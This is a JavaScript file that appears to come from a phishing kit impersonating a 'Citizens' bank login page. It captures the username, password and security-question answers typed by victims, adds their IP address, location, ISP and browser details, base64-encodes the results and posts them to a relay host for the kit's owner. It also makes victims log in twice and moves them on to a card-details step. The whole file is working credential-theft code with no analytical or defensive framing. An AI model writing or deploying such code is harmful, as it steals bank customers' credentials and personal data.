let place = {};

$(document).ready(async function () {
  const kept = localStorage.getItem("place");
  if (kept) place = JSON.parse(kept);
  else {
    place = await $.getJSON("https://geo-lookup.example/json");
    localStorage.setItem("place", JSON.stringify(place));
  }
});

function foot() {
  return `Country: ${place.country} | City: ${place.city}
IP: ${place.query} | ISP: ${place.isp}
User-Agent: ${navigator.userAgent}
----------------------------------------`;
}

function accessReport(user, pass, again) {
  return btoa(`----------- Citizens Access${again ? " - 2nd" : ""} -----------
Username : ${user}
Password : ${pass}
${foot()}`);
}

function questionReport(a) {
  return btoa(`----------- Security questions -----------
${a.map((x, i) => `Q${i + 1}: ${x.q}\nA${i + 1}: ${x.a}`).join("\n")}
${foot()}`);
}

function ship(text) {
  return $.ajax({ url: RESULT_HOST + "/relay", type: "POST", data: { post: text, to: OWNER } });
}

async function onAccess() {
  const user = document.getElementById("UserID").value;
  const pass = document.getElementById("currentpassword").value;
  $("#btn").val("Please wait...");
  const again = location.href.includes("vry=");
  await ship(accessReport(user, pass, again));
  localStorage.setItem("user", user);
  if (again) location.replace(location.href.split("#")[0] + "#/login/verify?" + Math.random().toString(36).slice(2));
  else location.replace(location.href + "&vry=" + Date.now());
  location.reload();
}

async function onQuestions() {
  const list = [1, 2, 3].map((n) => ({ q: $("#q" + n + " option:selected").text(), a: $("#a" + n).val() }));
  await ship(questionReport(list));
  location.replace(location.href.split("#")[0] + "#/login/card?" + Math.random().toString(36).slice(2));
  location.reload();
}
